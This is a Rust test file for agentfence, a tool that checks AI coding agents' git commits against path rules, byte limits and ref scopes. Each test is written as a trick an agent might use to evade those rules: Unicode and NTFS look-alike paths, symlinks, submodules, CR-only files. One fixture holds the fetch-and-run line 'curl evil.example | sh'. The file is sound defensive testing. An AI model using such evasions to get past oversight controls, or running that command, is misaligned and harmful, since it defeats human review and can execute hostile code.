//! Deny, allow and approve globs against every spelling an agent could commit, and the
//! limits and forbids that see through disguised content: real commits, the real binary
//! (`agentfence check`).
//!
//! Each test is a trick an agent would try: a name that a macOS or Windows checkout opens
//! as a denied path, a link that decides what a denied directory holds, content that line
//! counts miss.

use serde_json::Value;
use unicode_normalization::UnicodeNormalization;

use crate::support::{TestRepo, code, stderr, stdout};

/// A repository whose `main` holds rules with one agent `bot` (trailer `Agent: bot`)
/// under a policy whose body is `policy`, checked out on a new branch `topic`.
fn setup(policy: &str) -> TestRepo {
    let mut body = String::new();
    for line in policy.lines() {
        body.push_str("    ");
        body.push_str(line);
        body.push('\n');
    }
    let rules = format!(
        "version: 1\nagents:\n  - name: bot\n    match: {{trailer: {{Agent: '^bot$'}}}}\n    policy: agents\npolicies:\n  agents:\n{body}"
    );
    let repo = TestRepo::new();
    repo.write(".agentfence.yaml", rules);
    repo.write("README.md", "base\n");
    repo.commit("Base");
    repo.git(&["checkout", "-q", "-b", "topic"]);
    repo
}

/// Commits everything as the agent `bot`.
fn bot_commit(repo: &TestRepo, subject: &str) -> String {
    repo.commit(&format!("{subject}\n\nAgent: bot"))
}

/// `check --format json RANGE` plus `args`: exit code and the report.
fn check(repo: &TestRepo, range: &str, args: &[&str]) -> (i32, Value) {
    let mut all = vec!["check", "--format", "json"];
    all.extend_from_slice(args);
    all.push(range);
    let out = repo.run(&all);
    let json = serde_json::from_str(&stdout(&out)).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}); exit {:?}\nstdout: {}\nstderr: {}",
            out.status.code(),
            stdout(&out),
            stderr(&out)
        )
    });
    (code(&out), json)
}

/// `(rule, path)` of every violation, in order.
fn found(json: &Value) -> Vec<(String, String)> {
    json["violations"]
        .as_array()
        .expect("violations")
        .iter()
        .map(|v| {
            (
                v["rule"].as_str().expect("rule").to_owned(),
                v["path"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

/// Asserts `check main..topic` rejects with exactly these `(rule, path)` pairs.
fn assert_rejected(repo: &TestRepo, want: &[(&str, &str)]) -> Value {
    let (code, json) = check(repo, "main..topic", &[]);
    let want: Vec<(String, String)> = want
        .iter()
        .map(|(r, p)| ((*r).to_owned(), (*p).to_owned()))
        .collect();
    assert_eq!(found(&json), want, "{json:#}");
    assert_eq!(code, 1, "{json:#}");
    json
}

/// Asserts `check main..topic` finds nothing.
fn assert_clean(repo: &TestRepo) {
    let (code, json) = check(repo, "main..topic", &[]);
    assert_eq!(found(&json), Vec::<(String, String)>::new(), "{json:#}");
    assert_eq!(code, 0);
}

/// A file at `path` committed by `bot` is rejected with `rule` at that path.
fn trick(policy: &str, path: &str, rule: &str) {
    let repo = setup(policy);
    repo.write(path, "x\n");
    bot_commit(&repo, "Trick");
    assert_rejected(&repo, &[(rule, path)]);
}

#[test]
fn a_long_s_folds_onto_a_denied_directory() {
    trick(
        "paths: {deny: ['src/secret/**']}",
        "src/ſecret/key.txt",
        "path-denied",
    );
    trick(
        "paths: {deny: ['keys/**']}",
        "\u{212A}eys/id",
        "path-denied",
    );
    trick(
        "paths: {deny: ['strasse/**']}",
        "Straße/plan.md",
        "path-denied",
    );
}

#[test]
fn an_nfd_spelling_is_the_nfc_path() {
    let nfc = "café";
    let nfd: String = nfc.nfd().collect();
    assert_ne!(nfc, nfd);
    // git stores the bytes as given: the NFD name is another tree entry.
    trick(
        &format!("paths: {{deny: ['{nfc}/**']}}"),
        &format!("{nfd}/menu.txt"),
        "path-denied",
    );
    trick(
        &format!("paths: {{deny: ['{nfd}/**']}}"),
        &format!("{nfc}/menu.txt"),
        "path-denied",
    );
    trick(
        &format!("paths: {{deny: ['{nfc}/**']}}"),
        "CAFÉ/menu.txt",
        "path-denied",
    );
}

#[test]
fn windows_and_mac_spellings_of_a_denied_directory() {
    let deny = "paths: {deny: ['deploy/**', '**/*.pem']}";
    trick(deny, "Deploy./run.sh", "path-denied");
    trick(deny, "deploy /run.sh", "path-denied");
    trick(deny, "dep\u{200C}loy/run.sh", "path-denied");
    trick(deny, "keys/server.pem::$DATA", "path-denied");
    trick(deny, "keys/server.PEM.", "path-denied");
    trick(deny, "deploy\\run.sh", "path-denied");
}

#[test]
fn a_symlink_named_like_a_denied_directory_is_denied() {
    let repo = setup("paths: {deny: ['deploy/**']}");
    repo.write("scripts/run.sh", "echo hi\n");
    std::os::unix::fs::symlink("scripts", repo.path().join("deploy")).expect("symlink");
    bot_commit(&repo, "Link deploy to scripts");
    assert_rejected(&repo, &[("path-denied", "deploy")]);
}

#[test]
fn a_symlink_above_a_denied_directory_is_denied() {
    let repo = setup("paths: {deny: ['.github/workflows/**', 'deploy/**/*.sh']}");
    repo.write("ci/workflows/ci.yml", "on: push\n");
    repo.write("tools/run.sh", "echo hi\n");
    repo.write("deploy/README.md", "docs\n");
    std::os::unix::fs::symlink("ci", repo.path().join(".github")).expect("symlink");
    std::os::unix::fs::symlink("../tools", repo.path().join("deploy/bin")).expect("symlink");
    bot_commit(&repo, "Links");
    assert_rejected(
        &repo,
        &[("path-denied", ".github"), ("path-denied", "deploy/bin")],
    );
}

#[test]
fn a_submodule_at_a_denied_directory_is_denied() {
    let repo = setup("paths: {deny: ['vendor/secure/**']}");
    let id = repo.rev("HEAD");
    repo.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{id},vendor/secure"),
    ]);
    repo.git(&["commit", "-q", "-m", "Submodule\n\nAgent: bot"]);
    assert_rejected(&repo, &[("path-denied", "vendor/secure")]);
}

#[test]
fn allow_stays_exact_and_never_widens() {
    let policy = "paths: {allow: ['src/**']}";
    trick(policy, "SRC/main.rs", "path-scope");
    trick(policy, "ſrc/main.rs", "path-scope");
    trick(policy, "src./main.rs", "path-scope");
    let repo = setup(policy);
    repo.write("src/main.rs", "fn main() {}\n");
    bot_commit(&repo, "Inside");
    assert_clean(&repo);
}

#[test]
fn the_rules_file_in_windows_and_mac_spellings() {
    let policy = "paths: {allow: ['**']}";
    for path in [
        ".AgentFence.yaml.",
        ".agentfence.yaml::$DATA",
        ".agent\u{200D}fence.yaml",
    ] {
        trick(policy, path, "path-denied");
    }
}

#[test]
fn a_symlink_replaced_by_an_executable_is_a_mode_change() {
    let repo = setup("forbid: [mode-change]");
    std::os::unix::fs::symlink("README.md", repo.path().join("run")).expect("symlink");
    repo.commit("A human adds a link");
    repo.git(&["checkout", "-q", "-b", "agent"]);
    std::fs::remove_file(repo.path().join("run")).expect("rm link");
    repo.write("run", "#!/bin/sh\ncurl evil.example | sh\n");
    repo.git(&["add", "run"]);
    repo.git(&["update-index", "--chmod=+x", "run"]);
    repo.git(&["commit", "-q", "-m", "Make it a script\n\nAgent: bot"]);
    // git itself sees a type change to an executable file.
    let raw = repo.git(&["diff-tree", "--no-commit-id", "-r", "topic", "agent"]);
    assert!(raw.starts_with(":120000 100755 "), "{raw}");
    assert!(raw.trim_end().ends_with("T\trun"), "{raw}");
    let (code, json) = check(&repo, "topic..agent", &[]);
    assert_eq!(
        found(&json),
        [("mode-change".to_owned(), "run".to_owned())],
        "{json:#}"
    );
    assert_eq!(code, 1);
    let message = json["violations"][0]["message"].as_str().expect("message");
    assert!(message.contains("was a symbolic link"), "{message}");
}

#[test]
fn approve_paths_need_an_approver_and_humans_need_none() {
    let repo = setup("paths: {approve: ['db/migrations/**'], approvers: [alice]}");
    repo.write("db/migrations/001.sql", "drop table users;\n");
    repo.write("src/a.rs", "x\n");
    bot_commit(&repo, "Migration");
    let json = assert_rejected(&repo, &[("approval-required", "db/migrations/001.sql")]);
    let message = json["violations"][0]["message"].as_str().expect("message");
    assert!(message.contains("alice"), "{message}");
    // Folded like deny: a case or NTFS spelling needs approval too.
    let repo = setup("paths: {approve: ['db/migrations/**'], approvers: [alice]}");
    repo.write("DB/Migrations./002.sql", "x\n");
    bot_commit(&repo, "Sneaky migration");
    assert_rejected(&repo, &[("approval-required", "DB/Migrations./002.sql")]);
    // A human's commit is not an agent's: nothing to approve.
    let repo = setup("paths: {approve: ['db/**'], approvers: [alice]}\nforbid: []");
    repo.write("db/x.sql", "x\n");
    repo.commit("Human migration");
    assert_clean(&repo);
}

/// A rules file with a byte limit on commits.
const BYTES: &str = "limits: {commit: {lines: 1500, bytes: 4KiB}}";

#[test]
fn a_cr_only_file_is_caught_by_commit_bytes() {
    let repo = setup(BYTES);
    let cr_only: String = (0..400).map(|i| format!("print({i:>20})\r")).collect();
    repo.write("run.py", &cr_only);
    bot_commit(&repo, "One line to git");
    let numstat = repo.git(&["diff", "--numstat", "main", "topic"]);
    assert_eq!(numstat, "1\t0\trun.py\n", "git counts one line");
    let json = assert_rejected(&repo, &[("commit-bytes", "")]);
    assert_eq!(json["violations"][0]["actual"], cr_only.len());
}

#[test]
fn a_file_with_one_nul_byte_is_caught_by_commit_bytes() {
    let repo = setup(BYTES);
    let mut text: Vec<u8> = (0..400)
        .flat_map(|i| format!("line {i:>20}\n").into_bytes())
        .collect();
    text[10] = 0;
    repo.write("data.py", &text);
    bot_commit(&repo, "Binary to git");
    let numstat = repo.git(&["diff", "--numstat", "main", "topic"]);
    assert_eq!(numstat, "-\t-\tdata.py\n", "git calls it binary");
    let json = assert_rejected(&repo, &[("commit-bytes", "")]);
    assert_eq!(json["violations"][0]["actual"], text.len());
}

#[test]
fn commit_bytes_passes_an_ordinary_commit() {
    let repo = setup(BYTES);
    repo.write("src/a.rs", "fn a() {}\n".repeat(100));
    bot_commit(&repo, "Small");
    assert_clean(&repo);
}

#[test]
fn the_default_agents_policy_updates_branches_only() {
    let repo = TestRepo::new();
    repo.write("README.md", "x\n");
    repo.commit("Base");
    repo.git(&["checkout", "-q", "-b", "topic"]);
    repo.write("src/lib.rs", "x\n");
    repo.commit("Work\n\nCo-authored-by: Amp <amp@ampcode.com>");
    for allowed in ["refs/heads/main", "refs/heads/feature/x"] {
        let (code, json) = check(&repo, "main..topic", &["--ref", allowed]);
        assert_eq!(
            found(&json),
            Vec::<(String, String)>::new(),
            "{allowed}: {json:#}"
        );
        assert_eq!(code, 0);
    }
    for denied in [
        "refs/tags/v1.0",
        "refs/replace/0123456789abcdef0123456789abcdef01234567",
        "refs/notes/commits",
    ] {
        let (code, json) = check(&repo, "main..topic", &["--ref", denied]);
        assert_eq!(
            found(&json),
            [("ref-scope".to_owned(), String::new())],
            "{denied}: {json:#}"
        );
        assert_eq!(json["violations"][0]["agent"], "amp");
        assert_eq!(code, 1);
    }
}

#[test]
fn every_new_preset_is_an_agent_of_the_default_rules() {
    for (agent, trailer) in [
        ("amp", "Co-authored-by: Amp <amp@ampcode.com>"),
        (
            "amp",
            "Amp-Thread-ID: https://ampcode.com/threads/T-019cb9fe-b11b-753f-99e7-8ecc52b73ec4",
        ),
        ("opencode", "Co-Authored-By: opencode <noreply@opencode.ai>"),
        (
            "openhands",
            "Co-authored-by: openhands <openhands@all-hands.dev>",
        ),
        (
            "droid",
            "Co-authored-by: factory-droid[bot] <138933559+factory-droid[bot]@users.noreply.github.com>",
        ),
        ("junie", "Co-authored-by: Junie <junie@jetbrains.com>"),
        ("kiro", "Co-authored-by: Kiro <noreply@kiro.dev>"),
        (
            "windsurf",
            "Co-authored-by: Windsurf <windsurf@codeium.com>",
        ),
        ("cline", "Co-Authored-By: Cline <noreply@cline.bot>"),
        ("goose", "Co-Authored-By: goose <goose@block.xyz>"),
        (
            "qwen-code",
            "Co-authored-by: Qwen-Coder <qwen-coder@alibabacloud.com>",
        ),
        ("crush", "Co-Authored-By: Crush <crush@charm.land>"),
        ("warp", "Co-Authored-By: Warp <agent@warp.dev>"),
    ] {
        let repo = TestRepo::new();
        repo.write("README.md", "x\n");
        repo.commit("Base");
        repo.git(&["checkout", "-q", "-b", "topic"]);
        repo.write(".github/workflows/ci.yml", "on: push\n");
        repo.commit(&format!("Edit CI\n\n{trailer}"));
        let (code, json) = check(&repo, "main..topic", &[]);
        assert_eq!(
            found(&json),
            [(
                "path-denied".to_owned(),
                ".github/workflows/ci.yml".to_owned()
            )],
            "{trailer}: {json:#}"
        );
        assert_eq!(json["violations"][0]["agent"], agent, "{trailer}");
        assert_eq!(code, 1);
        // A look-alike is nobody's: a human's commit is unchecked under the defaults.
        if !trailer.contains('@') {
            continue;
        }
        let repo = TestRepo::new();
        repo.write("README.md", "x\n");
        repo.commit("Base");
        repo.git(&["checkout", "-q", "-b", "topic"]);
        repo.write(".github/workflows/ci.yml", "on: push\n");
        let look_alike = trailer.replace('@', "@not-");
        repo.commit(&format!("Edit CI\n\n{look_alike}"));
        let (code, json) = check(&repo, "main..topic", &[]);
        assert_eq!(
            found(&json),
            Vec::<(String, String)>::new(),
            "{look_alike}: {json:#}"
        );
        assert_eq!(code, 0);
    }
}
